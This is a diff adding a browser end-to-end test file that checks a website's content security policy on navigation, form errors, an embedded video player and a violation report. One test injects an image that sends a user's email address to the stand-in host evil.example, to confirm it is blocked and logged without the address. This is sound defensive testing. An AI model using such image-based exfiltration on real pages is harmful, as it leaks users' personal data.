@@ -1,0 +1,69 @@
+import { expect, waitForHydration } from "#tests/support/journey.ts";
+import { test } from "#tests/support/journey-with-content.ts";
+
+/**
+ * That no page breaks its policy is part of every journey (tests/support/journey.ts), and accessibility.e2e.ts opens
+ * every template. These are the ways that lead past a first page.
+ */
+
+test("no policy is violated by going from one page to the next, or by a form that is wrong", async ({
+  page,
+}) => {
+  await page.goto("/");
+  await waitForHydration(page);
+  await page.locator('main a[href="/contact-us"], header a[href="/contact-us"]').first().click();
+  await expect(page).toHaveTitle(/Contact/);
+  await page.getByRole("button", { name: "Send enquiry" }).click();
+  await expect(page.getByLabel("Name", { exact: true })).toBeFocused();
+
+  // The same form as the server answers it: a page of its own, with a policy of its own.
+  await page.goto("/contact-us");
+  await page.evaluate(() => document.querySelector<HTMLFormElement>('main form[method="post"]')?.submit());
+  await expect(page).toHaveTitle(/^Error: /);
+  await waitForHydration(page);
+});
+
+test.describe("with what is not there", () => {
+  test.use({ expected: /youtube-nocookie/ });
+
+  test("the video host's player may be framed by the page, after the click", async ({ page, site, edit }) => {
+    await page.route(/youtube-nocookie\.com/, (route) =>
+      route.fulfill({ contentType: "text/html", body: "<title>Player</title><h1>Player</h1>" }),
+    );
+    edit("video-testimonials.yaml", (text) =>
+      text.replace(/youtube_url: .*/, "youtube_url: https://www.youtube.com/watch?v=aB3_-xyz019"),
+    );
+    await expect
+      .poll(async () => (await (await fetch(`${site.url}/about`)).text()).includes("aB3_-xyz019"))
+      .toBe(true);
+    await page.goto("/about");
+    await waitForHydration(page);
+    await page.locator('a[href*="aB3_-xyz019"]').first().click();
+    const player = page.getByRole("dialog").locator("iframe").contentFrame();
+    await expect(player.getByRole("heading", { name: "Player" })).toBeVisible();
+  });
+});
+
+test.describe("when a page breaks its policy", () => {
+  test.use({ expected: /evil\.example/ });
+
+  test("the browser tells the site, which logs no more than rule, host and route", async ({ page, site }) => {
+    await page.goto("/contact-us?mail=ada@example.com");
+    await page.evaluate(() => {
+      const picture = new Image();
+      picture.src = "https://evil.example/x.png?mail=ada@example.com";
+      document.body.append(picture);
+    });
+    await expect.poll(() => site.output(), { timeout: 20_000 }).toContain("policy violated");
+    const line = site
+      .output()
+      .split("\n")
+      .find((one) => one.includes("policy violated"));
+    expect(JSON.parse(line ?? "")).toMatchObject({
+      directive: "img-src",
+      blocked: "https://evil.example",
+      route: "routes/contact-us",
+    });
+    expect(site.output()).not.toContain("ada@");
+  });
+});
